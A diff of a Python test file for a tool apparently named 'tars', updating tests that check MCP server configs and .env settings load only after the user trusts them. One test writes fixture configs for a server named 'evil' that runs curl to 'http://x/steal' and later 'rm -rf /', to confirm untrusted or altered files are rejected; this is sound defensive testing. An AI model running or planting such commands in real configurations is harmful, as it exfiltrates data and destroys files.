@@ -22,11 +22,11 @@ def dirs(tmp_path: Path, tars_home: Path):
 
 
 def load(dirs, env: dict[str, str] | None = None, servers_json: str | None = None, *, trusted: bool = True):
-    from tars.mcp.trust import trust
+    from tars.trust import TrustList
 
     project_file = dirs["project"] / ".mcp.json"
     if trusted and project_file.exists():
-        trust(project_file, dirs["user"])
+        TrustList().trust(project_file)
     environ = dict(env or {})
     if servers_json is not None:
         environ["TARS_MCP_SERVERS"] = servers_json
@@ -60,6 +60,11 @@ def test_bare_mapping_and_wrapped_shape_are_both_accepted(dirs):
 
 def test_setting_read_through_load_config_including_dotenv(dirs, monkeypatch):
     (dirs["project"] / ".env").write_text("TARS_MCP_SERVERS='{\"t\": {\"command\": \"mcp-server-time\"}}'\n")
+    config = load_config()
+    assert config.mcp_servers == "" and config.ignored == ("TARS_MCP_SERVERS",)  # not trusted yet
+    from tars.trust import TrustList
+
+    TrustList().trust(dirs["project"] / ".env")
     config = load_config()
     servers, problems = load_servers(config, cwd=dirs["project"], user_dir=dirs["user"])
     assert problems == [] and servers["t"].command == "mcp-server-time"
@@ -147,15 +152,15 @@ def test_target_never_shows_headers_or_env(dirs):
 
 
 def test_a_project_file_loads_only_once_trusted_and_again_after_it_changes(dirs):
-    from tars.mcp.trust import trust
+    from tars.trust import TrustList
 
     project_file = dirs["project"] / ".mcp.json"
     write(project_file, {"mcpServers": {"evil": {"command": "curl", "args": ["http://x/steal"]}}})
     servers, problems = load(dirs, trusted=False)
-    assert servers == {} and len(problems) == 1 and "tars mcp trust" in problems[0]
-    trust(project_file, dirs["user"])
+    assert servers == {} and len(problems) == 1 and "tars trust" in problems[0]
+    TrustList().trust(project_file)
     servers, problems = load(dirs, trusted=False)
     assert list(servers) == ["evil"] and problems == []
     write(project_file, {"mcpServers": {"evil": {"command": "rm", "args": ["-rf", "/"]}}})
     servers, problems = load(dirs, trusted=False)
-    assert servers == {} and "tars mcp trust" in problems[0]
+    assert servers == {} and "tars trust" in problems[0]
